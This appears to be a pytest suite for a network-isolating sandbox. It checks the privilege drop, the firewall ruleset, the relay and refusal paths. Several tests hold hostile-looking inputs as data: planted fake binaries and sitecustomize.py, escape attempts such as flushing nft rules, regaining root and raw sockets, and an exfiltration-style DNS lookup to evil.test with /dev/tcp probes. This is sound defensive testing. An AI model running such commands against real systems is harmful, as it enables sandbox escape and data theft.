"""The real entrypoint, nft, ip, relay and launcher in a box made by hand, before a bridge made for tests."""

from __future__ import annotations

import contextlib
import os
import re
import signal
import subprocess
from collections import Counter
from typing import TYPE_CHECKING

import pytest

from aisb.render.sandbox import ruleset
from tests.tools.box import (
    CAPABILITIES,
    ENTRYPOINT_ENVIRONMENT,
    VARIABLES,
    Box,
    Ended,
    end_box,
    run_box,
    start_box,
    terminal_box,
)
from tests.tools.fake_bridge import fake_bridge

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

ALL_PHASES = ["begun", "checked", "rules", "launcher", "relay", "proved", "exec"]
# The command of a box that must be refused: it leaves a trace if it is run all the same.
TRACE = b"the command ran\n"
TELL = ("echo", "the command ran")


@pytest.fixture
def gate(tmp_path: Path) -> Iterator[str]:
    """The directory of a gate that allows allowed.test."""
    tmp_path.chmod(0o755)
    with fake_bridge(str(tmp_path / "gate.sock"), "allowed.test"):
        yield str(tmp_path)


@pytest.fixture
def no_gate(tmp_path: Path) -> str:
    """A directory in which no gate listens."""
    tmp_path.chmod(0o755)
    return str(tmp_path)


def shell(text: str, **fields: object) -> Ended:
    """Run a shell in a box."""
    return run_box(Box(command=("sh", "-c", text), **fields))  # type: ignore[arg-type]  # each test names fields of the box


def test_the_command_runs_when_all_is_proved(gate: str) -> None:
    """All phases, the command's output byte for byte, its exit code, and not a word more."""
    ended = shell("printf 'a\\0b\\377'; printf err >&2; exit 42", gate=gate)

    assert ended == Ended(code=42, stdout=b"a\0b\xff", stderr="err", phases=ALL_PHASES)


@pytest.mark.parametrize("mode", ["none", "full"])
def test_without_a_gate_there_is_no_relay(mode: str) -> None:
    """Modes none and full have no use for one."""
    ended = shell("pgrep -u 999 . || echo no relay", mode=mode)

    phases = [phase for phase in ALL_PHASES if phase != "relay"]
    assert ended == Ended(code=0, stdout=b"no relay\n", stderr="", phases=phases)


def test_words_arrive_byte_for_byte(gate: str) -> None:
    """Blanks, quotes, newlines, patterns, empty words and bytes that are no text (C12)."""
    words: list[str | bytes] = [
        "",
        "a b",
        "'\"",
        "line\nline",
        "$HOME `id` $(id)",
        "*",
        "--",
        "-x",
        b"\xff\xfe",
        "é",
        "\\",
    ]
    ended = run_box(Box(command=("/usr/bin/printf", "%s\\0", *words), gate=gate))

    assert ended.stdout == b"".join(os.fsencode(word) + b"\0" for word in words)


def test_the_environment_is_what_was_handed_over_and_nothing_else(gate: str) -> None:
    """Every byte of it, and none of the entrypoint's."""
    given = {**VARIABLES, b"SECRET": b"a\nb \xff'\"$x", b"EMPTY": b"", b"odd.name": b"=x=", b"LD_PRELOAD": b""}
    block = b"".join(name + b"=" + value + b"\0" for name, value in given.items())
    ended = run_box(Box(command=("/usr/bin/env", "-0"), gate=gate, variables=block))

    assert sorted(ended.stdout.split(b"\0")[:-1]) == sorted(block.split(b"\0")[:-1])


def test_variables_that_change_programs_reach_the_command_alone(gate: str) -> None:
    """What a loader or an interpreter obeys is the user's to set, and acts after the drop (A50)."""
    evil = {
        b"BASH_ENV": b"/project/x.sh",
        b"ENV": b"/project/x.sh",
        b"GCONV_PATH": b"/project",
        b"IFS": b"/",
        b"LD_LIBRARY_PATH": b"/project",
        b"PATH": b"/project/bin:/usr/bin:/bin",
        b"PYTHONPATH": b"/project",
        b"PYTHONSTARTUP": b"/project/x.py",
    }
    trap = """
        mkdir -p /project/bin
        printf '#!/bin/sh\\nid -u >>/project/pwn\\n' >/project/bin/setpriv
        for name in nft ip python3 id tini; do cp /project/bin/setpriv /project/bin/$name; done
        printf 'import os; os.system("echo py >>/project/pwn")' >/project/gate.py
        cp /project/gate.py /project/sitecustomize.py
        cp /project/bin/setpriv /project/x.sh
        chmod -R 755 /project
    """
    block = b"".join(name + b"=" + value + b"\0" for name, value in {**VARIABLES, **evil}.items())
    ended = shell("cat /project/pwn 2>/dev/null || echo untouched", gate=gate, variables=block, before=trap)

    assert (ended.stdout, ended.phases) == (b"untouched\n", ALL_PHASES)


def test_nothing_is_left_of_root_nor_of_the_descriptors(gate: str) -> None:
    """No capability, no group, no way back; only the standard streams are open (A47)."""
    ended = shell("grep -hE '^(Uid|Gid|Groups|Cap...|NoNewPrivs|Seccomp):' /proc/1/status; ls /proc/self/fd", gate=gate)

    nothing = "0" * 16
    assert ended.stdout.decode().replace("\t", " ").split("\n") == [
        "Uid: 1000 1000 1000 1000",
        "Gid: 1000 1000 1000 1000",
        "Groups:  ",
        *(f"{name}: {nothing}" for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")),
        "NoNewPrivs: 1",
        "Seccomp: 2",
        "0",
        "1",
        "2",
        "3",
        "",
    ]


def test_the_relay_has_nothing_of_the_run_and_cannot_be_touched(gate: str) -> None:
    """No variable, no descriptor of ours, no terminal, no capability; the command cannot signal it."""
    ended = shell(
        "pid=$(pgrep -n -u 999 .); grep -hE '^(Uid|CapBnd|NoNewPrivs):' /proc/$pid/status; "
        "kill -9 $pid 2>&1; cat /proc/$pid/environ 2>&1; ls /proc/$pid/fd 2>&1; ps -o tty=,ppid= -p $pid",
        gate=gate,
    )

    assert ended.stdout.decode().replace("\t", " ").splitlines()[:3] == [
        "Uid: 999 999 999 999",
        "CapBnd: 0000000000000000",
        "NoNewPrivs: 1",
    ]
    rest = list(filter(None, ended.stdout.decode().splitlines()[3:]))
    assert ["not permitted" in rest[0], "Permission denied" in rest[1], "Permission denied" in rest[2]] == [True] * 3
    assert rest[3].split() == ["?", "1"]


def test_the_relay_holds_nothing_that_it_was_not_meant_to(gate: str, tmp_path: Path) -> None:
    """Seen from outside: no descriptor of the run's, neither variables nor phases nor streams, and no variable."""
    scratch = tmp_path / "scratch"
    scratch.mkdir(mode=0o755)
    stdin, keep_open = os.pipe()
    process, phases = start_box(Box(command=("cat",), gate=gate), str(scratch), stdin=stdin)
    try:
        with os.fdopen(phases, "rb") as lines:
            assert [lines.readline().decode().strip() for _ in ALL_PHASES] == ALL_PHASES
        relay = need_child(process.pid, b"gate.relay")
        # Only root of the box's own user namespace may look.
        enter = (
            [] if os.geteuid() == 0 else ["nsenter", f"--target={relay}", "--user", "--setuid=0", "--setgid=0", "--"]
        )
        show = f"import os; d = '/proc/{relay}/fd/'; print(*(os.readlink(d + fd) for fd in os.listdir(d)), sep='\\n')"
        links = subprocess.run(
            [*enter, "python3", "-c", show], capture_output=True, text=True, check=True
        ).stdout.split()
        environment = subprocess.run([*enter, "cat", f"/proc/{relay}/environ"], capture_output=True, check=True).stdout
    finally:
        os.close(keep_open)
        os.close(stdin)
        end_box(process)

    # A pipe with both its ends here leads nowhere else.
    others = [link for link, count in Counter(links).items() if count == 1 or not link.startswith("pipe:")]
    assert {re.sub("[0-9]+", "N", link) for link in others} == {"/dev/null", "anon_inode:[eventpoll]", "socket:[N]"}
    assert environment in {b"", b"PWD=/project\0"}


def need_child(parent: int, words: bytes) -> int:
    """The process below `parent` whose command line holds `words`."""
    below = {parent}
    for name in sorted(filter(str.isdigit, os.listdir("/proc")), key=int):
        with contextlib.suppress(OSError), open(f"/proc/{name}/stat", "rb") as status:
            if int(status.read().rpartition(b")")[2].split()[1]) in below:
                below.add(int(name))
    for process in below:
        with open(f"/proc/{process}/cmdline", "rb") as file:
            if words in file.read() and process != parent:
                return process
    raise AssertionError(f"no process below {parent} has {words!r} in its command line")


@pytest.mark.parametrize(
    ("attempt", "answer"),
    [
        pytest.param("/usr/sbin/nft flush ruleset", "Operation not permitted", id="flush the rules"),
        pytest.param("/usr/sbin/nft list ruleset", "Operation not permitted", id="read the rules"),
        pytest.param("ip route add default dev lo", "Operation not permitted", id="add a route"),
        pytest.param("ip link set lo down", "Operation not permitted", id="take lo down"),
        pytest.param("unshare -Urn true", "Operation not permitted", id="new namespaces"),
        pytest.param("mount -t tmpfs x /tmp", "must be superuser", id="mount"),
        pytest.param(
            "cp /usr/bin/id /project/i && chmod u+s /project/i", "Operation not permitted", id="a setuid copy"
        ),
        pytest.param("setpriv --reuid=0 id", "Operation not permitted", id="root again"),
        pytest.param("nsenter -t 1 -n true", "Operation not permitted", id="another's network"),
        pytest.param("rm /run/aisb/gate/gate.sock", "cannot remove", id="replace the gate's socket"),
        pytest.param("echo x >/run/aisb/mode", "ermission denied", id="write what aisb rendered"),
        pytest.param("python3 -c 'import socket; socket.socket(40, 1)'", "not supported", id="a vsock socket"),
        pytest.param("python3 -c 'import socket; socket.socket(17, 3)'", "not supported", id="a packet socket"),
        pytest.param("python3 -c 'import socket; socket.socket(2, 3, 1)'", "not permitted", id="a raw socket"),
    ],
)
def test_from_inside_nothing_can_be_undone(gate: str, attempt: str, answer: str) -> None:
    """Each attempt fails by its own error, and the denied address stays denied (A46, A48)."""
    after = "curl -sS -m 5 http://allowed.test/; curl -sS -m 5 https://203.0.113.11/ || echo refused"
    ended = shell(f"( {attempt} ) 2>&1 && echo done; {after}", gate=gate)

    assert answer in ended.stdout.decode()
    assert b"done" not in ended.stdout
    assert ended.stdout.endswith(b"allowed.test:80\nrefused\n")


def test_every_client_is_served_without_any_proxy_variable(gate: str) -> None:
    """By the name, through the resolver's address, over the transparent path (A28, B14, B48)."""
    fetch = "import urllib.request; print(urllib.request.urlopen('http://allowed.test/').read().decode(), end='')"
    ended = shell(
        f"""curl -sS http://allowed.test/; wget -qO- http://allowed.test/; python3 -c "{fetch}";
        curl -sS -4 http://allowed.test/; curl -sS --noproxy '*' http://allowed.test:8080/""",
        gate=gate,
        files={"resolv.conf": ""},
    )

    assert ended.stdout == b"allowed.test:80\n" * 4 + b"allowed.test:8080\n"


def test_what_is_denied_is_refused_within_a_second(gate: str) -> None:
    """By name, by address, another port, IPv6, UDP, another resolver, and while waiting for a banner."""
    ended = shell(
        """
        t() { timeout 2 "$@" >/dev/null 2>&1; [ $? != 124 ] || echo "slow: $*"; "$@" 2>/dev/null && echo "passed: $*"; }
        t curl -sS https://evil.test/
        t curl -sS https://203.0.113.11/
        t curl -sS --resolve allowed.test:443:203.0.113.11 https://allowed.test/
        t curl -gsS 'https://[2001:db8::11]/'
        t curl -sS https://198.18.200.200/
        t bash -c 'exec 9<>/dev/tcp/203.0.113.11/22; head -c 4 <&9 | grep SSH'
        t bash -c 'echo x >/dev/udp/203.0.113.11/443 && echo x'
        t python3 -c 'import socket; socket.getaddrinfo("c2VjcmV0.x.evil.test", 80)'
        t ping -c1 -W2 203.0.113.11
        echo end
        """,
        gate=gate,
    )

    assert ended.stdout == b"end\n"


def test_servers_of_the_sandbox_itself_are_left_alone(gate: str) -> None:
    """On 127.0.0.1, ::1 and 0.0.0.0, ports 80 and 443 included (B40)."""
    program = (
        "import socket, threading\n"
        "for family, address, port in ((2, '0.0.0.0', 80), (2, '127.0.0.1', 443), (10, '::1', 3001)):\n"
        "    server = socket.socket(family)\n"
        "    server.setsockopt(1, 2, 1)\n"
        "    server.bind((address, port))\n"
        "    server.listen()\n"
        "    client = socket.create_connection(('127.0.0.1' if family == 2 else '::1', port))\n"
        "    print(port, server.accept()[1][0])\n"
    )
    ended = run_box(Box(command=("python3", "-c", program), gate=gate))

    assert ended.stdout == b"80 127.0.0.1\n443 127.0.0.1\n3001 ::1\n"


REFUSALS = [
    pytest.param({"capabilities": (*CAPABILITIES, 1)}, "the capabilities are 00000000000011c2", id="a capability more"),
    pytest.param({"capabilities": CAPABILITIES[1:]}, "the capabilities are 0000000000001180", id="a capability less"),
    pytest.param(
        {
            "capabilities": (*CAPABILITIES, 1),
            "replaced": (("entrypoint", '[ "$effective" = 00000000000011c0 ]', "true"),),
        },
        "the capability bound is 00000000000011c2",
        id="a wider bound",
    ),
    pytest.param({"has_seccomp": False}, "no system calls are filtered", id="no seccomp filter"),
    pytest.param(
        {"has_seccomp": False, "has_no_new_privileges": False}, "new privileges are not ruled out", id="new privileges"
    ),
    pytest.param(
        {"environment": {**ENTRYPOINT_ENVIRONMENT, "LD_AUDIT": "/x"}},
        "the variable LD_AUDIT is in the entrypoint's environment",
        id="a variable more",
    ),
    pytest.param(
        {"extra_mounts": ("/srv",)}, "something is mounted at /srv that aisb did not ask for", id="a mount more"
    ),
    pytest.param(
        {"extra_mounts": ("/srv/a b\\c",)},
        "something is mounted at /srv/a\\040b\\134c that aisb did not ask for",
        id="a mount with a blank",
    ),
    pytest.param(
        {"extra_mounts": ("/srv/\033[31m",)},
        "something is mounted at /srv/?[31m that aisb did not ask for",
        id="a mount with a control character",
    ),
    pytest.param({"expected_mounts": ("/project",)}, "nothing is mounted at /project", id="a mount less"),
    pytest.param({"files": {"mode": "open\n"}}, "open is no network mode", id="another mode"),
    pytest.param({"files": {"mode": ""}}, "the entrypoint ended before its time", id="no mode"),
    pytest.param(
        {"files": {"sandbox.nft": "table inet x { junk }"}}, "the network rules could not be loaded", id="bad rules"
    ),
    pytest.param({"programs": {"nft": "#!/bin/sh\nexit 1\n"}}, "the network rules could not be loaded", id="nft fails"),
    pytest.param(
        {"replaced": (("entrypoint", "/usr/sbin/nft", "/usr/sbin/gone"),)},
        "the network rules could not be loaded",
        id="no nft",
    ),
    pytest.param(
        {"replaced": (("entrypoint", "/usr/sbin/ip", "/usr/sbin/gone"),)}, "the routes could not be set", id="no ip"
    ),
    pytest.param(
        {"programs": {"nft": "#!/bin/sh\nexit 0\n"}}, "the resolver: Connection refused", id="nft does nothing"
    ),
    pytest.param(
        {"replaced": (("gate/relay.py", "DNS_PORT = 3130", "DNS_PORT = 3128"),)},
        "the relay did not start",
        id="the relay's port is taken",
    ),
    pytest.param(
        {"replaced": (("gate/relay.py", "import os\n", "import nothing\n"),)},
        "the relay did not start",
        id="a broken relay",
    ),
    pytest.param(
        {
            "replaced": (
                (
                    "gate/relay.py",
                    "    close_inherited()\n",
                    "    close_inherited()\n    import time; time.sleep(60)\n",
                ),
                ("gate/launcher.py", "RELAY_SECONDS = 5.0", "RELAY_SECONDS = 0.2"),
            )
        },
        "the relay did not start",
        id="a relay that never listens",
    ),
    pytest.param({"home_owner": 0}, "is not a directory that belongs to the sandbox's user", id="another's home"),
    pytest.param({"variables": b"HOME=/gone\0"}, "the home '/gone' is not there", id="no home"),
    pytest.param({"variables": b"HOME=/home/sandbox"}, "the command's variables were cut off", id="variables cut off"),
    pytest.param({"variables": b"HOME\0"}, "has no name or no value", id="a variable without value"),
    pytest.param(
        {"replaced": (("entrypoint", "--reuid=1000", "--reuid=1001"),)},
        "after the drop Uid is '1001\\t1001\\t1001\\t1001'",
        id="another uid",
    ),
    pytest.param(
        {"replaced": (("entrypoint", "--regid=1000 --clear-groups", "--regid=1000 --groups=0"),)},
        "after the drop Groups is '0'",
        id="a group is left",
    ),
    pytest.param(
        {"replaced": (("entrypoint", "--clear-groups --inh-caps=-all --bounding-set=-all", "--clear-groups"),)},
        "after the drop CapBnd is '00000000000011c0'",
        id="the capability bound is left",
    ),
    pytest.param(
        {
            "replaced": (
                ("gate/launcher.py", 'INITS = ("/usr/bin/tini", "/usr/bin/tini-static")', 'INITS = ("/gone",)'),
            )
        },
        "the image has no init",
        id="no init",
    ),
]


@pytest.mark.parametrize(("fields", "reason"), REFUSALS)
def test_what_is_not_as_it_has_to_be_is_77_before_the_command(
    gate: str, fields: dict[str, object], reason: str
) -> None:
    """The reason goes to the host, one line, and the command is never begun (A53, A54)."""
    ended = run_box(Box(command=TELL, gate=gate, **fields))  # type: ignore[arg-type]  # each test names fields of the box

    assert (ended.code, ended.stdout) == (77, b"")
    refusals = [line for line in ended.phases if line.startswith("refused ")]
    assert len(refusals) == 1
    assert reason in refusals[0]
    assert "exec" not in ended.phases


# What a kernel without that piece of the ruleset says of it, it says of a chain that is not there as well.
MISSING = "jump not_there"
NO_RULES = 'refuse "the network rules could not be loaded"'
THEN_LIST = ("entrypoint", NO_RULES, f"{{ echo in force: >&2; /usr/sbin/nft list ruleset >&2; {NO_RULES}; }}")


@pytest.mark.parametrize(
    ("mode", "piece"),
    [
        ("allow", "redirect to :3130"),
        ("allow", "reject with icmpx admin-prohibited"),
        ("none", "meta l4proto tcp reject with tcp reset"),
        ("full", "reject with icmpx admin-prohibited"),
    ],
    ids=["redirect", "reject", "no network", "full network"],
)
def test_a_kernel_without_a_piece_of_the_ruleset_loads_none_of_it_and_the_piece_is_named(
    gate: str, mode: str, piece: str
) -> None:
    """77, with nft's own line for the rule that could not be; all of the rules are in force, or none. (C37)"""
    text = ruleset(mode)
    assert piece in text
    files = {"sandbox.nft": text.replace(piece, MISSING)}

    ended = run_box(Box(command=TELL, gate=gate, mode=mode, files=files, replaced=(THEN_LIST,)))

    assert (ended.code, ended.stdout, ended.phases[-1]) == (77, b"", "refused the network rules could not be loaded")
    said, _, in_force = ended.stderr.partition("in force:\n")
    assert ("No such file or directory" in said, MISSING in said, in_force) == (True, True, "")


def test_a_refusal_that_cannot_be_reported_is_one_all_the_same(gate: str) -> None:
    """Without the phase descriptor the reason goes to stderr."""
    ended = run_box(Box(command=TELL, gate=gate, has_descriptors=False))

    assert ended == Ended(
        code=77, stdout=b"", stderr="aisb: refused: the phase 'begun' could not be reported\n", phases=[]
    )


def test_a_relay_that_takes_its_time_is_waited_for(gate: str) -> None:
    """The launcher starts while the relay binds its sockets, and proves nothing before that."""
    slow = ("gate/relay.py", "    close_inherited()\n", "    close_inherited()\n    import time; time.sleep(0.5)\n")

    assert shell("exit 3", gate=gate, replaced=(slow,)) == Ended(code=3, stdout=b"", stderr="", phases=ALL_PHASES)


def test_without_a_gate_the_command_is_not_begun(no_gate: str) -> None:
    """The allowed probe has to come through, so a sandbox whose gate is gone is refused (A54)."""
    ended = run_box(Box(command=TELL, gate=no_gate))

    assert (ended.code, ended.stdout) == (77, b"")
    assert ended.phases[-1] in {
        "refused ok.aisb.internal could not be resolved: the gate was not reached",
        "refused denied.aisb.internal answered 502 instead of 403",
    }


@pytest.mark.parametrize(
    ("names", "reason"),
    [
        pytest.param("192.0.2.1", "192.0.2.1 port 443, which is not allowed, was reached", id="an address"),
        pytest.param("[2001:db8:ffff::1]", "2001:db8:ffff::1 port 443, which is not allowed, was reached", id="IPv6"),
        pytest.param("denied.aisb.internal", "denied.aisb.internal answered 200 instead of 403", id="a name"),
    ],
)
def test_a_gate_that_lets_the_denied_probe_through_is_refused(tmp_path: Path, names: str, reason: str) -> None:
    """A list that is loaded is not a list that is enforced (A54)."""
    tmp_path.chmod(0o755)
    with fake_bridge(str(tmp_path / "gate.sock"), names, serve=lambda client, _: client.sendall(b"hello")):
        ended = run_box(Box(command=TELL, gate=str(tmp_path)))

    assert (ended.code, ended.stdout, ended.phases[-1]) == (77, b"", f"refused {reason}")


def test_mode_none_is_refused_where_something_leads_out() -> None:
    """A route through another device, in a sandbox that should have none (A54)."""
    network = """
        ip link add out0 type veth peer name out1
        ip link set out0 up
        ip link set out1 up
        ip address add 203.0.113.2/24 dev out0
    """
    ended = run_box(Box(command=TELL, mode="none", before=network))

    assert (ended.code, ended.stdout) == (77, b"")
    assert ended.phases[-1].startswith("refused there is a route through 'out")


def test_a_kernel_without_ipv6_is_no_obstacle(gate: str) -> None:
    """Then there is nothing to lead, nothing to prove, and nowhere to go by IPv6 (A31)."""
    ended = shell(
        "curl -sS http://allowed.test/; curl -gsS -m 5 'http://[2001:db8::11]/' || echo refused",
        gate=gate,
        has_v6=False,
    )

    assert (ended.stdout, ended.phases) == (b"allowed.test:80\nrefused\n", ALL_PHASES)


@pytest.mark.parametrize(
    ("command", "code", "words"),
    [
        pytest.param(("no-such-program",), 127, "aisb: no-such-program: command not found\n", id="not found"),
        pytest.param(("/project/no-such",), 127, "aisb: /project/no-such: command not found\n", id="no such file"),
        pytest.param(("",), 127, "aisb: : command not found\n", id="an empty name"),
        pytest.param(("/etc/passwd",), 126, "aisb: /etc/passwd: not executable\n", id="not executable"),
        pytest.param(("/usr",), 126, "aisb: /usr: not executable\n", id="a directory"),
        pytest.param((b"bad\x1bname",), 127, "aisb: bad?name: command not found\n", id="a control character"),
        pytest.param(("sh", "-c", "exit 255"), 255, "", id="255"),
        pytest.param(("sh", "-c", "kill -TERM $$"), 143, "", id="TERM"),
        pytest.param(("sh", "-c", "kill -KILL $$"), 137, "", id="KILL"),
        pytest.param(("sh", "-c", "kill -SEGV $$"), 139, "", id="SEGV"),
    ],
)
def test_exit_codes_are_the_commands(gate: str, command: tuple[str | bytes, ...], code: int, words: str) -> None:
    """After the phase exec a code is the command's, 126 and 127 as in a shell, which is told before it (C56)."""
    ended = run_box(Box(command=command, gate=gate))

    *before, last = ALL_PHASES
    phases = [*before, *([f"unstarted {code}"] if words else []), last]
    assert ended == Ended(code=code, stdout=b"", stderr=words, phases=phases)


def test_the_command_has_pythons_ignored_signals_back(gate: str) -> None:
    """`yes | head` ends without complaint. Python ignores SIGPIPE and SIGXFSZ; what its caller ignores is the caller's."""
    script = f"""
    mask=$(sed -n 's/^SigIgn:[[:space:]]*/0x/p' /proc/self/status)
    echo $((mask & {1 << signal.SIGPIPE - 1 | 1 << signal.SIGXFSZ - 1})); yes | head -n 1
    """
    ended = shell(script, gate=gate)

    assert ended == Ended(code=0, stdout=b"0\ny\n", stderr="", phases=ALL_PHASES)


def test_stdin_is_the_commands_alone(gate: str) -> None:
    """Nothing before the command reads a byte of it."""
    reader, writer = os.pipe()
    os.write(writer, b"a line\nand more")
    os.close(writer)
    ended = run_box(Box(command=("cat",), gate=gate), stdin=reader)
    os.close(reader)

    assert ended.stdout == b"a line\nand more"


LISTENER = r"""
import os, select, signal
signal.signal(signal.SIGINT, lambda *_: os.write(1, b"caught\n"))
os.write(1, b"listening\n")
line = b"."
while line:
    # Not read() at once: a signal just before it would be noticed after it.
    if select.select([0], [], [], 0.05)[0]:
        line = os.read(0, 100)
        os.write(1, b"got " + line)
"""


def test_a_terminal_belongs_to_the_command(gate: str) -> None:
    """An interrupt arrives once, a job can be stopped and taken up again, the size is known (C57)."""
    command = ("bash", "--norc", "--noprofile", "-i")
    variables = b"HOME=/home/sandbox\0PATH=/usr/bin:/bin\0TERM=dumb\0PS1=> \0PROGRAM=" + LISTENER.encode() + b"\0"
    with terminal_box(Box(command=command, gate=gate, variables=variables), rows=33, columns=111) as (screen, process):
        screen.expect_exact("> ")
        screen.sendline('python3 -c "$PROGRAM"')
        screen.expect_exact("listening\r\n")
        screen.send("\x03")
        screen.expect_exact("caught")
        screen.sendline("one")
        screen.expect_exact("got one")
        assert b"caught" not in screen.before
        screen.send("\x1a")
        screen.expect_exact("Stopped")
        screen.expect_exact("> ")
        screen.sendline("fg")
        screen.sendline("two")
        screen.expect_exact("got two")
        screen.send("\x04")
        screen.expect_exact("> ")
        screen.sendline("stty size; exit 7")
        screen.expect_exact("33 111\r\n")
        assert process.wait(10) == 7


def test_orphans_are_taken_in_and_end_with_the_command(gate: str) -> None:
    """The init reaps; when the command ends the sandbox does, relay and leftovers included."""
    ended = shell("(sleep 100 & echo $!) ; until ps -o ppid= -C sleep; do :; done", gate=gate)

    assert ended.stdout.split()[1:] == [b"1"]
    assert ended.code == 0


def test_the_certificate_of_a_gate_that_opens_tls_joins_them_too(gate: str, tmp_path: Path) -> None:
    """It lies beside the run's socket, and comes with that directory; the user's own come first."""
    own, gates = (f"-----BEGIN CERTIFICATE-----\n{text}\n-----END CERTIFICATE-----\n" for text in ("AAAA", "BBBB"))
    (tmp_path / "ca.pem").write_text(gates)
    command = "cat /etc/ssl/certs/ca-certificates.crt - <<END | cmp - /run/user/1000/aisb/ca-bundle.pem && echo same\n"

    alone = shell(f"{command}{gates}END", gate=gate)
    joined = shell(f"{command}{own}{gates}END", gate=gate, files={"ca.pem": own})

    assert (alone.stdout, joined.stdout) == (b"same\n", b"same\n")


def test_extra_certificates_join_the_images_own(gate: str) -> None:
    """One file with both, of the command's user, at the path that the variables name; wget's settings beside it."""
    extra = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----"
    ended = shell(
        "cat /etc/ssl/certs/ca-certificates.crt - <<END | cmp - /run/user/1000/aisb/ca-bundle.pem && "
        "cd /run/user/1000/aisb && stat -c '%a %u' . ca-bundle.pem wgetrc && "
        f"tail -n 1 wgetrc\n{extra}\nEND",
        gate=gate,
        files={"ca.pem": extra},
    )

    own = b"ca_certificate = /run/user/1000/aisb/ca-bundle.pem\n"
    assert ended.stdout == b"700 1000\n644 1000\n644 1000\n" + own
